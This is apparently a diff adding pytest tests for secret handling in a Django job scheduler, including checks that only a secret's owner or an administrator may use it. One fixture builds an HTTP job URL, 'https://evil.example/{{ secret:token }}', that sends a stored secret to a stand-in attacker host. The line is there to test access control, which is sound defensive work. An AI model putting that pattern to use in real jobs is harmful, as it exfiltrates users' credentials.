@@ -3,15 +3,18 @@
 from datetime import timedelta
 
 import pytest
+from cryptography.fernet import Fernet
 from django.db import connection
 from django.test.utils import CaptureQueriesContext
 from django.urls import reverse
 from django.utils import timezone
 from playwright.sync_api import expect
 
+from accounts.models import User
 from audit.models import AuditEvent
 from jobs import actions
 from jobs.models import Job, JobSchedule, Status
+from jobs.vault import Secret
 from runs.models import Run
 from tests.factories import NOON, ada, alice, bob, charlie, definition, job, script
 
@@ -501,3 +504,55 @@ def test_many_runs_are_not_counted_to_the_last(client, owner, monkeypatch):
         Run.objects.create(job=one, scheduled_time=NOON + timedelta(minutes=minute))
     client.force_login(owner)
     assert "2+ runs and their logs go too." in text(client.get(at(one, "delete")))
+
+
+# Secrets
+
+
+@pytest.fixture
+def token(settings):
+    """A secret of alice's own."""
+    settings.SECRETS_KEYS = [Fernet.generate_key().decode()]
+
+    def make(owner):
+        secret = Secret(name="token", owner=owner)
+        secret.hide("s3cr3t")
+        secret.save()
+
+    return make
+
+
+HTTP_WITH_SECRET = {
+    **DUMMY,
+    "type": "HTTP",
+    "shown": "HTTP",
+    "payload-http_method": "GET",
+    "payload-http_url": "https://evil.example/{{ secret:token }}",
+}
+
+
+def test_the_owner_of_a_secret_uses_it(client, owner, token):
+    token(owner)
+    post(client, owner, CREATE, HTTP_WITH_SECRET)
+    assert Job.objects.get().type == "HTTP"
+
+
+def test_a_secret_that_is_not_there_is_told_at_its_field(client, owner):
+    assert "There is no secret token" in text(post(client, owner, CREATE, HTTP_WITH_SECRET))
+    assert not Job.objects.exists()
+
+
+def test_an_operator_does_not_send_an_owners_secret_where_they_like(client, owner, token):
+    token(owner)
+    said = {**HTTP_WITH_SECRET, "owner": owner.email}
+    assert "own: only they and administrators" in text(post(client, bob(), CREATE, said))
+    assert not Job.objects.exists()
+    one = job(owner)
+    post(client, User.objects.get(email="bob@example.com"), at(one, "edit"), said)
+    assert Job.objects.get().type == "DUMMY"
+
+
+def test_an_administrator_may(client, owner, token):
+    token(owner)
+    post(client, ada(), CREATE, {**HTTP_WITH_SECRET, "owner": owner.email})
+    assert Job.objects.get().owner == owner
